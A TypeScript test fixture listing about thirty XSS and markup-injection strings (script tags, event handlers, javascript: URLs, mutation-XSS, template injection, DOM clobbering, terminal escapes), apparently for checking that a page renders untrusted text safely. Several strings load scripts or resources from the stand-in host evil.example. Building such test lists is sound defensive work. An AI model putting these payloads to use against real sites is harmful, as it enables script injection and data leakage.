/** What a hostile text calls once it runs; a page that shows it must never have it set. */
export const RAN = '__svcHostileTextRan';
/** Where hostile texts try to send something. Nothing listens there; asking is the failure. */
export const ELSEWHERE = 'http://evil.example';

const RUN = `window.${RAN}=1`;

/** Untrusted texts that run or send requests in a careless page; each within 200 characters. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script src="${ELSEWHERE}/a.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ELSEWHERE}/pixel.png" srcset="${ELSEWHERE}/2.png 2x">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">`,
  `<a href="javascript:${RUN}">click</a> <a href="jAvAsCrIpT&colon;${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<form action="${ELSEWHERE}/f"><button autofocus formaction="javascript:${RUN}">Approve</button></form>`,
  `<input autofocus onfocus="${RUN}"><select onfocus="${RUN}" autofocus></select>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<body onload="${RUN}"><style>@import "${ELSEWHERE}/s.css";</style>`,
  `<div style="background:url(${ELSEWHERE}/bg);position:fixed;inset:0">over the page</div>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/l.css"><base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/m">`,
  `<video poster="${ELSEWHERE}/v"><source onerror="${RUN}" src=x></video><audio src="${ELSEWHERE}/s" autoplay></audio>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `[click](javascript:${RUN}) ![x](${ELSEWHERE}/markdown.png) <javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n[x] ![y][z]\n\n[z]: ${ELSEWHERE}/ref.png "title\\" onerror=${RUN}"`,
  `\`\`\`js" onmouseover="${RUN}\ncode\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | x |`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %>`,
  `</textarea></title></style><script>${RUN}</script>`,
  `\u202Etxet esrever\u202C \u0007 \u001b[31mred \u001b]8;;${ELSEWHERE}\u0007link \u2028 end`,
  `<x id=approve name=body tabindex=1 onfocusin="${RUN}">clobber</x><img name=getElementById>`,
];
